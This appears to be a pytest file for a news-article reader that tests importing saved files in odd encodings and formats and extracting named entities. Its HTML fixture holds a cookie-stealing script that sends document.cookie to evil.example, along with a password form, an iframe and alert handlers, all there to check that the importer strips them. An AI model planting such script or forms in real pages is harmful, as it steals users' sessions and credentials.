"""The files analysts really save: each gets an outcome, none stops the rest."""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dragon_reader.services.corpus import Corpus

HOSTILE_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Austin and Dong Jun hold video call | Example News</title>
<meta property="og:site_name" content="Example News"><meta name="author" content="Jane Doe">
<meta property="article:published_time" content="2024-04-16T10:00:00Z">
<script>document.location='http://evil.example/steal?c='+document.cookie</script>
<link rel="stylesheet" href="http://evil.example/x.css"></head><body>
<nav>Home | World | Politics</nav>
<form action="http://evil.example/login"><input name="password"><button>Go</button></form>
<iframe src="http://evil.example/frame"></iframe>
<article><h1>Austin and Dong Jun hold video call</h1>
<p>WASHINGTON (Reuters) – U.S. Defense Secretary Lloyd Austin spoke with Chinese Defense
Minister Dong Jun on Tuesday, the first such talks in nearly 18 months.</p>
<img src="http://evil.example/pixel.png" onerror="alert(1)">
<p>The Pentagon said the call lasted about an hour and covered the South China Sea.</p>
<p onclick="alert(2)">Both sides agreed to keep lines of communication open.</p>
</article><footer>Our standards: The Trust Principles.</footer></body></html>"""


@pytest.fixture
def awkward(tmp_path: Path) -> Path:
    folder = tmp_path / "saved"
    deep = folder / "a" / "b" / "c" / "d" / "e" / "f"
    deep.mkdir(parents=True)
    (folder / "page.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    (folder / "windows.txt").write_bytes("“Xi” met Biden — in Woodside.".encode("cp1252"))
    (folder / "utf16.txt").write_bytes(
        codecs.BOM_UTF16_LE + "Wang Yi met Sullivan.\r\n".encode("utf-16-le")
    )
    (folder / "empty.txt").write_bytes(b"")
    (folder / "photo.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(200))
    (folder / "nul.txt").write_bytes(b"Talks\x00resumed")
    with (folder / "huge.txt").open("wb") as handle:
        handle.write(b"word " * (30 * 1024 * 1024 // 5))
    (deep / "deep.md").write_text("# Deep\n\nBlinken visited *Beijing*.", encoding="utf-8")
    return folder


def test_every_file_gets_an_outcome_and_good_ones_are_stored(
    empty_corpus: Corpus, awkward: Path
) -> None:
    report = empty_corpus.import_paths([awkward])
    outcomes = {Path(o.source).name: (o.outcome, o.reason or o.encoding) for o in report.outcomes}
    assert outcomes["page.html"] == ("imported", "utf-8")
    assert outcomes["windows.txt"] == ("imported", "cp1252")
    assert outcomes["utf16.txt"] == ("imported", "utf-16")
    assert outcomes["deep.md"] == ("imported", "utf-8")
    assert outcomes["empty.txt"] == ("failed", "empty file")
    assert outcomes["photo.txt"][0] == "failed" and "PNG" in str(outcomes["photo.txt"][1])
    assert outcomes["nul.txt"][0] == "failed" and "NUL" in str(outcomes["nul.txt"][1])
    assert outcomes["huge.txt"][0] == "failed" and "too large" in str(outcomes["huge.txt"][1])
    assert empty_corpus.count() == 4


def test_a_web_page_keeps_only_the_article_and_its_metadata(
    empty_corpus: Corpus, awkward: Path
) -> None:
    empty_corpus.import_paths([awkward / "page.html"])
    (row,) = empty_corpus.list_articles()
    article = empty_corpus.article(row.id)
    assert article is not None
    assert (article.title, article.outlet, article.byline) == (
        "Austin and Dong Jun hold video call",
        "Example News",
        "Jane Doe",
    )
    assert article.published is not None and article.published.isoformat() == "2024-04-16"
    assert "Lloyd Austin spoke with Chinese Defense" in article.text
    for hostile in ("evil.example", "alert", "document.cookie", "password", "Home | World"):
        assert hostile not in article.text
    names = {m.text for m in empty_corpus.entities.mentions(row.id)}
    assert {"Lloyd Austin", "Dong Jun", "Pentagon"} <= names


def test_nothing_half_imported_when_a_file_fails(empty_corpus: Corpus, tmp_path: Path) -> None:
    (tmp_path / "ok.txt").write_text("Sullivan met Wang Yi in Vienna.", encoding="utf-8")
    (tmp_path / "bad.txt").write_bytes(b"")
    report = empty_corpus.import_paths([tmp_path / "bad.txt", tmp_path / "ok.txt"])
    assert [o.outcome for o in report.outcomes] == ["failed", "imported"]
    assert empty_corpus.count() == 1
    assert empty_corpus.entities.stale_article_ids() == []


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=8)
        | st.sampled_from(
            ["\r\n", "\n", "\r", "\t", "😀", "“", "”", "Xi Jinping", "U.S.", " Jan. 9"]
        ),
        min_size=1,
        max_size=40,
    ).map("".join)
)
def test_any_imported_text_keeps_the_span_invariant(empty_corpus: Corpus, text: str) -> None:
    from dragon_reader.domain.text import normalize_newlines

    outcome = empty_corpus.import_text(text)
    if outcome.outcome == "failed":
        assert not normalize_newlines(text).strip()
        return
    assert outcome.article_id is not None
    article = empty_corpus.article(outcome.article_id)
    assert article is not None
    assert article.text == normalize_newlines(text)
    for mention in empty_corpus.entities.mentions(outcome.article_id):
        assert article.text[mention.start : mention.end] == mention.text


def test_a_large_import_recognises_in_worker_processes(
    empty_corpus: Corpus, tmp_path: Path
) -> None:
    """Enough files to use the worker processes: entities are the same as in-process."""
    from dragon_reader.services.entities import PARALLEL_MIN_TEXTS

    folder = tmp_path / "many"
    folder.mkdir()
    count = PARALLEL_MIN_TEXTS + 6
    for number in range(count):
        (folder / f"{number:03d}.txt").write_text(
            f"Report {number}: Jake Sullivan met Wang Yi in Vienna on Jan. {number % 28 + 1}, "
            "2024, the White House said.",
            encoding="utf-8",
        )
    report = empty_corpus.import_paths([folder])
    assert report.imported == count
    from dragon_reader.nlp.recognizer import RuleRecognizer

    recognizer = RuleRecognizer()
    for outcome in report.outcomes[:5] + report.outcomes[-5:]:
        assert outcome.article_id is not None
        article = empty_corpus.article(outcome.article_id)
        assert article is not None
        stored = [(m.start, m.end, m.label) for m in empty_corpus.entities.mentions(article.id)]
        expected = [(e.start, e.end, e.label) for e in recognizer.recognize(article.text)]
        assert stored == expected
        assert "Jake Sullivan" in {m.text for m in empty_corpus.entities.mentions(article.id)}


def test_a_folder_with_nothing_to_import_gets_a_line_with_its_reason(
    empty_corpus: Corpus, tmp_path: Path
) -> None:
    folder = tmp_path / "drafts"
    folder.mkdir()
    (folder / ".one.txt").write_text("hidden draft")
    (folder / ".two.md").write_text("hidden draft")
    report = empty_corpus.import_paths([folder])
    assert [(o.source, o.outcome) for o in report.outcomes] == [(str(folder), "failed")]
    assert "2 hidden file(s)" in (report.outcomes[0].reason or "")


def test_the_report_says_what_a_page_showed_outside_its_article(
    empty_corpus: Corpus, awkward: Path
) -> None:
    from dragon_reader.services.interchange import Interchange

    report = Interchange(empty_corpus).import_paths([awkward / "page.html"])
    assert [(Path(n.source).name, n.text) for n in report.notes] == [
        (
            "page.html",
            "8 word(s) of the page outside its article (menus, banners, footers) left out",
        )
    ]
